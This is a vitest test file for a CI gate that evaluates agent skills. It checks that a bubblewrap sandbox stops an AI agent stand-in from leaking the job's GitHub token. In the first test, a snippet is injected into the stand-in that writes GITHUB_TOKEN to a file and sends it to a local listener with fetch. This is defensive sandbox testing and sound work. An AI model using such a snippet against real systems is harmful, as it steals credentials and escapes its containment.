import { chmodSync, existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { dirname, join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { skippedWithoutSandbox } from '../agents/sandbox/support.ts'
import { type ActionRun, makeScene, type Scene } from '../support/action.ts'
import { skillFile, temporaryFolder, triggerSet } from '../support/cli.ts'

// The jobs of docs/job-token.md, one after the other, as init writes them.

const TOKEN = 'ghs_plantedcanarytokenofajob000000000000'
const STAND_IN = join(import.meta.dirname, '../support/stand-ins/copilot.cjs')

/** A PATH with a program in place of Copilot. */
function standIn(folder: string, program: string): string {
  const bin = join(folder, 'bin')
  mkdirSync(bin)
  writeFileSync(join(bin, 'copilot'), program)
  chmodSync(join(bin, 'copilot'), 0o755)
  return [bin, dirname(process.execPath), process.env['PATH'] ?? ''].join(':')
}

/** That PATH, without the program of the sandbox: what the gate and the agent need, by links. */
function withoutBubblewrap(folder: string, path: string): string {
  const bin = join(folder, 'few')
  mkdirSync(bin)
  for (const name of ['git', 'sh', 'env']) {
    const found = path
      .split(':')
      .map((one) => join(one, name))
      .find((one) => existsSync(one))
    if (found !== undefined) symlinkSync(found, join(bin, name))
  }
  return [join(folder, 'bin'), dirname(process.execPath), bin].join(':')
}

/** A server that anybody could be told something by. */
async function listener() {
  const requests: string[] = []
  const server = createServer((request, response) => {
    requests.push(request.url ?? '')
    response.end()
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return {
    requests,
    port: (server.address() as AddressInfo).port,
    async [Symbol.asyncDispose]() {
      server.close()
    },
  }
}

const apples = ['alkmene', 'bramley']
const configFor = (agent: string) => `version: 1\nagent: {id: ${agent}, model: claude-haiku-4.5, auth: job-token}\n`

/** A pull request that takes away what a skill is for. */
async function lossy(agent: string) {
  const scene = await makeScene({
    files: {
      'skill-eval-gate.yml': configFor(agent),
      'skills/apples/SKILL.md': skillFile('apples', `Use for ${apples.join(' and ')}`),
      'evals/apples/trigger_eval.json': triggerSet(apples.map((word) => `Bake ${word}`)),
    },
  })
  const pull = await scene.pull((repository) =>
    repository.write({ 'skills/apples/SKILL.md': skillFile('apples', 'Use for no fruit') }),
  )
  return { scene, pull }
}

const shown = ({ github: { state } }: Scene) => {
  const { status, conclusion } = state.checks.toSorted((a, b) => b.id - a.id)[0] ?? {}
  return status === 'completed' ? conclusion : status
}

/** The three jobs. `more`: environments of the one that measures, and of the one that decides. */
async function threeJobs(
  { scene, pull }: Awaited<ReturnType<typeof lossy>>,
  ...more: [Record<string, string>, Record<string, string>]
): Promise<{ opened: string | null | undefined; measured: ActionRun; decided: ActionRun }> {
  const run = { GITHUB_RUN_ID: '900' }
  await scene.runPull(pull, { inputs: { job: 'open' }, environment: run })
  const opened = shown(scene)
  const measured = await scene.runPull(pull, {
    inputs: { shard: '1/1' },
    token: 'no-checks-token',
    environment: { ...run, GITHUB_TOKEN: TOKEN, ...more[0] },
  })
  expect([measured.exitCode, measured.writes, shown(scene)]).toEqual([0, [], 'in_progress'])
  expect(measured.stdout).not.toContain('::warning')
  const decided = await scene.runPull(pull, {
    inputs: { merge: dirname(measured.outputs['part-path'] ?? '') },
    environment: { ...run, ...more[1] },
  })
  expect(scene.github.violations).toEqual([])
  return { opened, measured, decided }
}

describe.skipIf(skippedWithoutSandbox("the jobs of an agent that asks with a job's token"))(
  "the jobs of an agent that asks with a job's token",
  () => {
    test.each([
      ['with bubblewrap starts, and can tell the token to nobody', true],
      ['without it does not start, so that nobody has the token', false],
    ])('an agent that would tell its token %s', async (_, hasSandbox) => {
      const made = await lossy('copilot')
      await using scene = made.scene
      await using folder = temporaryFolder()
      await using heard = await listener()
      const told = join(folder.path, 'told')
      const tell = `if (process.env.GITHUB_TOKEN) {
  try { require('node:fs').writeFileSync(${JSON.stringify(told)}, process.env.GITHUB_TOKEN) } catch {}
  fetch('http://127.0.0.1:${heard.port}/' + process.env.GITHUB_TOKEN).catch(() => {})
}
`
      const PATH = standIn(
        folder.path,
        readFileSync(STAND_IN, 'utf8').replace(/^#!.*\n/, (first) => first + tell),
      )
      const only = hasSandbox ? PATH : withoutBubblewrap(folder.path, PATH)
      const { opened, measured, decided } = await threeJobs(made, { PATH: only }, { PATH: only })
      expect([heard.requests, existsSync(told)]).toEqual([[], false])
      for (const text of [measured.stdout, measured.stderr, measured.summary, decided.stdout, decided.summary])
        expect(text).not.toContain(TOKEN)
      expect(JSON.stringify(scene.github.state)).not.toContain(TOKEN)
      expect([opened, shown(scene)]).toEqual(['in_progress', 'failure'])
      if (hasSandbox) expect(decided.outputs['decision']).toBe('regressed')
      else expect(scene.github.state.checks[0]?.title).toMatch(/sandbox|bubblewrap/i)
    })

    test('say in the check what kept the agent from being measured', async () => {
      const made = await lossy('copilot@9.9.9')
      await using scene = made.scene
      await using folder = temporaryFolder()
      const registry = createServer((_, response) => {
        response.setHeader('content-type', 'application/json')
        response.end(JSON.stringify({ name: '@github/copilot', 'dist-tags': {}, versions: {} }))
      })
      await new Promise<void>((resolve) => registry.listen(0, '127.0.0.1', resolve))
      try {
        const { port } = registry.address() as AddressInfo
        const npm = { npm_config_registry: `http://127.0.0.1:${port}/`, SKILL_EVAL_GATE_CACHE: folder.path }
        const { opened, decided } = await threeJobs(made, npm, { npm_config_registry: 'http://127.0.0.1:9/' })
        expect([opened, decided.exitCode, shown(scene)]).toEqual(['in_progress', 1, 'failure'])
      } finally {
        registry.close()
      }
      expect(scene.github.state.checks[0]?.title).toContain('@github/copilot has no version 9.9.9')
    })
  },
)
